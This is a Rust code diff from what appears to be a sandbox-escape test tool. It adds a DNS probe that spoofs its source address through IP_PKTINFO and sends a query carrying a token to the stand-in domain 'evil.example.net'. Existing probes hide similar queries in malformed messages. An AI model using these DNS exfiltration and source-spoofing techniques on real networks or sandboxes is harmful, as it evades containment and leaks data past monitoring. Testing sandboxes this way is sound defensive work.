@@ -1,11 +1,12 @@
 //! Ways by questions to name servers.
 
 use std::io::{Read, Write};
-use std::net::{SocketAddr, TcpStream, UdpSocket};
+use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
+use std::os::fd::OwnedFd;
 
 use netwright_sandbox_lab::internet::dns::{self, Question, kind};
 
-use crate::net::{PATIENCE, named, tcp};
+use crate::net::{PATIENCE, named, send_message, socket_address, tcp};
 use crate::{Came, Outcome, Way, token, word};
 
 pub(crate) const WAYS: &[Way] = &[
@@ -16,6 +17,7 @@ pub(crate) const WAYS: &[Way] = &[
         question.name = format!("{}.{}", token(), question.name);
         answered(&ask(server(words)?, &question.message(), false)?)
     }),
+    ("ask-as-another-socket", as_another_socket),
     ("ask-two", |words| hidden(words, two_questions)),
     ("ask-trailing", |words| hidden(words, |message| [message, token().as_bytes()].concat())),
     ("ask-option", |words| hidden(words, with_option)),
@@ -105,6 +107,19 @@ fn hidden(words: &[&str], hide: impl FnOnce(&[u8]) -> Vec<u8>) -> Outcome {
     let message = hide(&question(words)?.message());
     let to = server(words)?;
     answered(&ask(to, &message, false).or_else(|_| ask(to, &message, true))?)
+}
+
+/// A question from the port that a server of the host has at one of its addresses, bound at another and sent from the server's: the answer goes to it.
+fn as_another_socket(words: &[&str]) -> Outcome {
+    let (to, own, port) = (server(words)?, Ipv4Addr::new(127, 0, 0, 9), word(words, 1)?.parse()?);
+    let socket = OwnedFd::from(UdpSocket::bind((own, port))?);
+    let question = Question { id: 7, name: format!("{}.evil.example.net", token()), kind: kind::A };
+    // struct cmsghdr and struct in_pktinfo.
+    let head = [libc::IPPROTO_IP, libc::IP_PKTINFO, 0].map(i32::to_ne_bytes).concat();
+    let control = [&28_u64.to_ne_bytes()[..], &head, &Ipv4Addr::LOCALHOST.octets(), &[0; 8]].concat();
+    send_message(&socket, &socket_address(to), &question.message(), &control, 0)?;
+    std::thread::sleep(PATIENCE);
+    Err("the question is sent".into())
 }
 
 /// A second question, for a name that holds the token.
